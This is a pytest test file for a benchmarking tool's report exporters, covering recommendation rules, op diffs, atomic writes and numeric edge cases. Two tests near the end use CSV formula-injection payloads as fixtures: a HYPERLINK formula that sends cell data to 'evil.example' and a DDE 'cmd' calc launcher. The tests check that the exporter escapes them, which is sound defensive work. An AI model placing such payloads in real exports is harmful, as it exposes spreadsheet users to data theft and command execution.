"""The exporter interface: registry, shared rows, the recommendation rule, op diffs, atomic writes."""

from __future__ import annotations

import json
import math
from dataclasses import replace

import pytest
from fixtures.synthetic import scenario, synthetic_run

from perfgate.model.comparison import Comparison, Verdict
from perfgate.model.config import ConfigError
from perfgate.model.results import CaseResult, CaseSpec, ProcessSamples, RunResult
from perfgate.reports import RUN_FORMATS, console, parse_formats, registry, write_all, write_run_reports
from perfgate.reports.base import ReportInput
from perfgate.reports.display import tolerance_text
from perfgate.reports.opdiff import op_diff
from perfgate.reports.recommend import EAGER_DID_NOT_RUN, recommend
from perfgate.util.stats import Ratio


def test_registry_names_and_files():
    reg = registry()
    assert list(reg) == ["html", "md", "junit", "csv", "json"]
    assert {e.filename for e in reg.values()} == {"report.html", "summary.md", "junit.xml", "report.csv",
                                                  "report.json"}


def test_parse_formats_accepts_aliases_and_rejects_unknown():
    assert parse_formats("html, markdown,junit,html") == ["html", "md", "junit"]
    with pytest.raises(ConfigError, match="unknown report format 'pdf'; valid: html, md, junit, csv, json"):
        parse_formats("html,pdf")
    with pytest.raises(ConfigError, match="no report format"):
        parse_formats(" , ")


@pytest.mark.parametrize("with_comparison", [False, True])
def test_every_exporter_renders_with_and_without_a_comparison(with_comparison):
    run, comp = scenario()
    report = ReportInput(run, comp if with_comparison else None)
    for name, exporter in registry().items():
        data = exporter.render(report)
        assert data, name
        data.decode("utf-8")
    assert json.loads(registry()["json"].render(report))["verdict"]["state"] == (
        "fail" if with_comparison else "no-baseline")


def test_rows_carry_speedup_change_and_marker():
    run, comp = scenario()
    rows = {r.key: r for r in ReportInput(run, comp).rows}
    slow = rows["operator_rollout/smoke/channels-last/cpu"]
    assert slow.marker == "regression"
    assert slow.speedup is not None and slow.speedup.value < 0.7
    assert slow.change_text.endswith("regression")
    assert slow.kernels_text == "45 ops"
    slow.case.metrics["kernels_per_step"] = 1.0
    assert slow.kernels_text == "1 kernel"  # not "1 kernels"
    assert [c.name for c in slow.op_diff] == ["aten::extra_0", "aten::extra_1", "aten::extra_2"]
    assert {c.change for c in slow.op_diff} == {"added"}
    compiled = rows["operator_rollout/smoke/compile/cpu"]
    assert compiled.marker == "win"
    assert compiled.compile_text == "14.2 s cold / 1.1 s warm"
    assert compiled.recommendation.action == "adopt"
    assert rows["field_superposition/smoke/compile/cpu"].marker == "newly-failing"
    assert rows["operator_rollout/smoke/cuda-graphs/cpu"].recommendation.action == "cannot run"


def _ok(toggle: str, accuracy: str = "ok") -> CaseResult:
    return CaseResult(spec=CaseSpec("w", "smoke", (toggle,), "cpu"), status="ok", accuracy={"verdict": accuracy})


@pytest.mark.parametrize("speedup, accuracy, action", [
    (Ratio(1.30, 1.10, 1.50), "ok", "adopt"),
    (Ratio(1.30, 1.04, 1.50), "ok", "neutral"),  # CI reaches into the +5% band: not clearly a win
    (Ratio(1.30, 1.10, 1.50), "drift", "avoid"),  # fast but wrong
    (Ratio(0.80, 0.70, 0.90), "ok", "avoid"),
    (Ratio(0.97, 0.90, 1.04), "ok", "neutral"),
    (None, "ok", "neutral"),
])
def test_recommendation_rule(speedup, accuracy, action):
    rec = recommend(_ok("compile", accuracy), speedup, None, threshold=0.05)
    assert rec.action == action, rec.reason


def _timed(toggle: str, step_s: float) -> CaseResult:
    procs = [ProcessSamples(samples_ns=[int(step_s * 1e9)] * 5, process_index=i) for i in range(3)]
    return CaseResult(spec=CaseSpec("w", "smoke", (toggle,), "cpu"), status="ok", processes=procs,
                      accuracy={"verdict": "ok"})


def test_each_cases_band_is_its_own_threshold():
    """Thresholds are per toggle, workload and case: compile (40%) and torchscript (5%) both run 1.3x eager,
    so compile is neutral within its ±40% band and torchscript adopt, though compile's verdict comes first
    (its threshold was every case's band); the same from the run's recorded per-toggle and per-workload
    thresholds without a comparison, and the global one where what was recorded is nonsense."""
    cases = [_timed("eager", 1.3e-3), _timed("compile", 1e-3), _timed("torchscript", 1e-3)]
    comparison = Comparison(verdicts=[
        Verdict("w/smoke/compile/cpu", "step_time", "unchanged", threshold=0.4),
        Verdict("w/smoke/torchscript/cpu", "step_time", "unchanged", threshold=0.05),
    ])
    run = RunResult("r", "smoke", {}, cases=cases)
    for report in (ReportInput(run, comparison),
                   ReportInput(replace(run, settings={"gate": {"threshold": 0.05, "toggles": {"compile": 0.4}}}))):
        rows = {r.key: r.recommendation for r in report.rows}
        assert rows["w/smoke/compile/cpu"].action == "neutral" and "±40%" in rows["w/smoke/compile/cpu"].reason
        assert rows["w/smoke/torchscript/cpu"].action == "adopt", rows["w/smoke/torchscript/cpu"].reason
    per_workload = ReportInput(replace(run, settings={"gate": {"threshold": 0.05, "workloads": {"w": 0.4}}}))
    assert {r.recommendation.action for r in per_workload.rows if r.key != "w/smoke/eager/cpu"} == {"neutral"}
    nonsense = ReportInput(replace(run, settings={"gate": {"toggles": {"compile": "40%"}, "workloads": {"w": -1}}}))
    assert {r.recommendation.action for r in nonsense.rows if r.key != "w/smoke/eager/cpu"} == {"adopt"}


def test_a_speedup_without_an_interval_is_not_judged_and_says_why():
    """One process a side gives no interval (stats.ratio_of): a 2x speedup is neither adopt nor avoid, and
    every table says so rather than printing a sample-pooled interval."""
    from perfgate.reports.html import speedup_chart

    rec = recommend(_ok("compile"), Ratio(2.0, None, None), None, threshold=0.05)
    assert rec.action == "neutral" and rec.reason == "2.00x (1 process: no interval): not judged"
    run = synthetic_run(["rollout"], toggles=("eager", "compile"))
    run = replace(run, cases=[replace(c, processes=c.processes[:1]) for c in run.cases])
    (row,) = [r for r in ReportInput(run).rows if r.key == "rollout/smoke/compile/cpu"]
    assert row.speedup.low is None and row.speedup_text.endswith("x (1 process: no interval)")
    assert row.step_time_text.endswith("(1 process: no interval)")
    assert row.recommendation.action == "neutral"
    group = next(g for g in ReportInput(run).groups if any(r.key == row.key for r in g.rows))
    bar = speedup_chart(group).bars[-1]
    assert bar.css == "flat" and bar.lo == bar.hi == bar.x  # no error bar, no colour of a side of 1x
    from perfgate.reports.html import HtmlExporter

    html = HtmlExporter().render(ReportInput(run)).decode()
    assert html.count("(1 process: no interval)") >= 4  # step time and speedup, matrix and pay-off table


def test_a_drift_recommendation_shows_the_tolerance_as_bounds_and_the_reason():
    case = _ok("amp-fp16", "drift")
    case.accuracy.update(tolerance={"rel_l2": 0.05, "max_abs": None},
                         reason="after 1 step(s) the output is already off by rel_l2 0.2")
    rec = recommend(case, Ratio(1.8, 1.6, 2.0), None, threshold=0.05)
    assert rec.action == "avoid"
    assert rec.reason == ("output drifts from the fp32 reference beyond tolerance (rel_l2 <= 0.05): "
                          "after 1 step(s) the output is already off by rel_l2 0.2")
    assert tolerance_text({"rel_l2": 1e-2, "max_abs": 0.5}) == "rel_l2 <= 0.01, max_abs <= 0.5"
    assert tolerance_text(0.05) == "rel_l2 <= 0.05" and tolerance_text(None) == ""


def test_an_amplified_drift_is_named_in_the_recommendation():
    case = _ok("amp-bf16")
    case.accuracy.update(amplified=True, rel_l2=0.9, reason="amplified, not damaged: one step: rel_l2 0.004")
    rec = recommend(case, Ratio(1.8, 1.6, 2.0), None, threshold=0.05)
    assert rec.action == "adopt" and rec.reason.endswith("accuracy amplified, not damaged: one step: rel_l2 0.004")


def test_recommendation_for_eager_and_cases_that_cannot_run():
    assert recommend(_ok("eager"), None, None, 0.05).action == "reference"
    failed = CaseResult(spec=CaseSpec("w", "smoke", ("compile",), "cpu"), status="failed",
                        failure_class="compile-error", message="Traceback\nRuntimeError: Dynamo is not supported")
    rec = recommend(failed, None, None, 0.05)
    assert rec.action == "cannot run"
    assert "compile-error" in rec.reason and "Dynamo is not supported" in rec.reason
    # an eager case that failed is no reference: nothing was measured against it (once "reference")
    crashed = CaseResult(spec=CaseSpec("w", "smoke", ("eager",), "cpu"), status="failed", failure_class="crash",
                         message="worker killed by SIGABRT")
    rec = recommend(crashed, None, None, 0.05)
    assert rec.action == "cannot run" and rec.reason == "failed: crash: worker killed by SIGABRT"
    assert "eager did not run" in recommend(_ok("compile"), None, None, 0.05, EAGER_DID_NOT_RUN).reason


def test_an_eager_step_time_of_0_gives_no_speedup_anywhere():
    """An eager case whose samples are 0 ns (a timer that reads 0) once made every toggle "0.00x [0.00, 0.00]"
    faster, recommended "avoid: slower than eager", in every report and the console."""
    run = synthetic_run(["w"], toggles=("eager", "compile"))
    for p in run.cases[0].processes:
        p.samples_ns = [0] * len(p.samples_ns)
    report = ReportInput(run)
    eager, compile_ = report.rows
    assert eager.speedup is None and compile_.speedup is None
    assert compile_.recommendation.action == "neutral" and "a step time of 0" in compile_.recommendation.reason
    assert run.speedup(run.cases[1]) is None
    for name, exporter in registry().items():
        assert "0.00x" not in exporter.render(report).decode(), name
    assert "0.00x" not in console.run_tables(run)


def test_step_times_whose_speedup_overflows_render_without_one():
    """Samples no timer gives (an untrusted results.json: eager 1e300 ns, a toggle 1e-300 ns) made the speedup
    infinite, and report.html's speedup chart crashed on it (OverflowError: exit 3, "a perfgate bug")."""
    run = synthetic_run(["w"], toggles=("eager", "compile"))
    for case, ns in zip(run.cases, (1e300, 1e-300), strict=True):
        for p in case.processes:
            p.samples_ns = [ns] * len(p.samples_ns)
    report = ReportInput(run)
    assert report.rows[1].speedup is None
    for name, exporter in registry().items():
        assert "inf" not in exporter.render(report).decode().replace("info", ""), name


def test_an_infinite_peak_memory_gives_no_memory_ratio():
    """A peak memory of inf (a Measured value may be one) on both sides showed "nanx" eager's in report.html."""
    run = synthetic_run(["w"], toggles=("eager", "compile"))
    for case in run.cases:
        case.metrics["peak_rss_bytes"] = math.inf
    report = ReportInput(run)
    assert [r.memory_change for r in report.rows] == [None, None]
    assert "nanx" not in registry()["html"].render(report).decode()


def test_memory_vs_eager_with_its_interval_in_the_matrix_what_pays_off_csv_and_json():
    run = synthetic_run(["w"], toggles=("eager", "compile"))
    for case, peaks in zip(run.cases, ([1e9, 1e9], [6.9e8, 7.1e8]), strict=True):
        case.processes = [replace(p, peak_rss_bytes=v) for p, v in zip(case.processes, peaks, strict=True)]
    report = ReportInput(run)
    eager, compiled = report.rows
    ratio = run.memory_vs_eager(run.cases[1])[1]
    assert (compiled.memory_ratio, compiled.memory_metric, compiled.memory_change) == (ratio, "peak_rss_bytes", 0.7)
    assert ratio.low < 0.7 < ratio.high and eager.memory_vs_eager_text == "1x (reference)"
    shown = f"0.700x [{ratio.low:.3f}, {ratio.high:.3f}]"
    assert compiled.memory_vs_eager_text == shown
    html = registry()["html"].render(report).decode()
    assert html.count(f'<td class="num memory-vs-eager">{shown}</td>') == 2  # the toggle matrix, what pays off
    rows = registry()["csv"].render(report).decode().splitlines()
    header, line = rows[0].split(","), rows[2].split(",")
    assert float(line[header.index("memory_vs_eager_low")]) == pytest.approx(ratio.low)
    assert line[header.index("memory_vs_eager_metric")] == "peak_rss_bytes"
    data = json.loads(registry()["json"].render(report))["rows"][1]["memory_vs_eager"]
    assert (data["value"], data["high"], data["metric"]) == (0.7, ratio.high, "peak_rss_bytes")


def test_op_diff_orders_by_self_time_change():
    def case(ops):
        return CaseResult(spec=CaseSpec("w", "s", ("eager",), "cpu"), status="ok", profile={"top_ops": ops})

    before = case([{"name": "conv", "kind": "kernel", "count_per_step": 4, "self_time_us_per_step": 100.0},
                   {"name": "gone", "kind": "op", "count_per_step": 1, "self_time_us_per_step": 5.0},
                   {"name": "same", "kind": "op", "count_per_step": 2, "self_time_us_per_step": 10.0}])
    after = case([{"name": "conv", "kind": "kernel", "count_per_step": 4, "self_time_us_per_step": 180.0},
                  {"name": "new", "kind": "kernel", "count_per_step": 8, "self_time_us_per_step": 20.0},
                  {"name": "same", "kind": "op", "count_per_step": 2, "self_time_us_per_step": 10.1}])
    diff = op_diff(before, after)
    assert [(c.name, c.change) for c in diff] == [
        ("conv", "self time changed"), ("new", "added"), ("gone", "removed")]
    assert diff[0].self_us_delta == pytest.approx(80.0)
    assert op_diff(None, after) == []


def test_write_all_writes_atomically_and_leaves_no_temp_files(tmp_path):
    run = synthetic_run(["w"])
    paths = write_all(ReportInput(run), tmp_path, ["html", "md", "junit", "csv", "json"])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in paths)
    assert write_run_reports(run, tmp_path)[0].name == "report.html"
    assert RUN_FORMATS == ("html", "md", "junit")


def test_partial_run_reports_what_finished(tmp_path):
    """The after_case path: a run that stopped after its first case still gets a readable report."""
    full = synthetic_run(["w"])
    partial = type(full)(run_id=full.run_id, suite=full.suite, environment=full.environment,
                         cases=full.cases[:1], started_at=full.started_at)
    write_run_reports(partial, tmp_path)
    html = (tmp_path / "report.html").read_text()
    assert "still running" in html and ">eager<" in html and ">compile<" not in html
    assert "1 case(s) measured" in (tmp_path / "summary.md").read_text()


def test_runner_after_case_leaves_a_report_when_the_run_dies(tmp_path, monkeypatch):
    """runner.execute calls after_case after each case; a crash in the second case keeps the first's report."""
    from perfgate.model import config
    from perfgate.running import runner

    run = synthetic_run(["w"])
    done = iter(run.cases[:1])

    def fake_run_case(spec, *args, **kwargs):
        try:
            return next(done)
        except StopIteration:
            raise KeyboardInterrupt from None  # the user (or the machine) stops the run here

    monkeypatch.setattr(runner, "run_case", fake_run_case)
    empty = type(run)(run_id=run.run_id, suite=run.suite, environment=run.environment, started_at=run.started_at)
    with pytest.raises(KeyboardInterrupt):
        runner.execute([c.spec for c in run.cases[:2]], {"w": "w.py"}, config.Settings.__new__(config.Settings),
                       empty, tmp_path, after_case=lambda r: write_run_reports(r, tmp_path))
    assert "| `w/smoke/eager/cpu` | ok |" in (tmp_path / "summary.md").read_text()
    assert 'name="eager"' in (tmp_path / "junit.xml").read_text()


def test_an_environment_entry_nothing_recorded_reads_none_not_null(tmp_path):
    """A CPU machine has no CUDA version or driver, a fresh repository no commit: report.html's environment
    table and its baseline difference say "none", never JSON's null or Python's None."""
    import re

    from perfgate.model.comparison import Comparison

    run, _ = scenario()
    run.environment.update(torch_cuda=None, nvidia_driver=None, git_commit=None)
    comp = Comparison(verdicts=[], environment_diff={"torch_cuda": [None, "12.4"], "nvidia_driver": [None, "550.54"]})
    write_run_reports(run, tmp_path, comp)
    cells = re.findall(r'<td class="mono">([^<]*)</td>', (tmp_path / "report.html").read_text())
    assert "null" not in cells and "None" not in cells
    assert "none" in cells and "12.4" in cells


def test_report_csv_holds_no_formula_a_spreadsheet_would_run():
    """A workload or failure message from an untrusted results.json starting with = + - @ was a live
    formula in report.csv (`=HYPERLINK(...)` opened by a spreadsheet); it is text now, behind a '."""
    import csv
    import io
    from dataclasses import replace

    run = synthetic_run(["operator_rollout"], toggles=("eager", "compile"))
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    run.cases[1] = replace(run.cases[1], spec=replace(run.cases[1].spec, workload="@SUM(1+1)*cmd|' /C calc'!A0"),
                           status="failed", failure_class="error", message=evil)
    rows = list(csv.DictReader(io.StringIO(registry()["csv"].render(ReportInput(run)).decode())))
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
    assert rows[1]["message"] == "'" + evil and rows[1]["workload"].startswith("'@SUM")
    assert rows[0]["workload"] == "operator_rollout" and float(rows[0]["step_time_median_s"]) > 0


def test_history_csv_holds_no_formula_either():
    import csv
    import io

    from perfgate.history.reading import Point
    from perfgate.history.show import render

    points = [Point("run-1", "a" * 40, '=HYPERLINK("https://evil.example","x")', "2026-01-01T00:00", "@m",
                    -0.5, None, None, 3)]
    rows = list(csv.DictReader(io.StringIO(render({"+w/smoke/eager/cpu": points}, "step_time", "csv"))))
    assert rows[0]["branch"].startswith("'=") and rows[0]["machine_key"] == "'@m" and rows[0]["case"][:2] == "'+"
    assert rows[0]["value"] == "-0.5"  # numbers stay numbers


def test_a_merge_missing_a_shard_says_so_in_every_banner():
    """A merge of shards 1 and 2 of 3 (shard 3 failed) is judged on the cases that came: the gate passes
    (exit 0), and every report said PASS without a word of the cases that never ran."""
    import xml.etree.ElementTree as ET

    from perfgate.gating import gate
    from perfgate.judging.compare import compare_runs

    run = synthetic_run(["w"], toggles=("eager", "compile", "amp-bf16"))
    missing = ["v/smoke/eager/cpu", "v/smoke/compile/cpu"]
    run.settings["shard"] = {"merged": [1, 2], "count": 3, "cases_total": 5, "missing_cases": missing,
                             "plan": [c.key for c in run.cases] + missing}
    comparison = compare_runs(run, synthetic_run(["w"], toggles=("eager", "compile", "amp-bf16")))
    assert gate.conclude(comparison, True, lambda _: None, run) == gate.EXIT_OK
    said = "; no result for 2 planned cases (shard(s) 3/3 not merged)"
    report = ReportInput(run, comparison)
    assert report.verdict.state == "pass" and said in report.verdict.headline
    rendered = {name: e.render(report).decode() for name, e in registry().items()}
    assert said in rendered["html"].split('id="verdict"')[1].split("</div>")[0]
    assert said in rendered["md"].splitlines()[0]
    assert said in ET.fromstring(rendered["junit"]).find("testsuite/system-out").text
    # all shards given, one of them stopped early; and an uncompared merge
    run.settings["shard"]["merged"] = [1, 2, 3]
    assert "; no result for 2 planned cases (their shard did not finish them)" in ReportInput(run).verdict.headline
    run.settings["shard"] = {"index": 1, "count": 3, "plan": run.settings["shard"]["plan"]}  # one shard: its own part
    assert "planned" not in ReportInput(run).verdict.headline
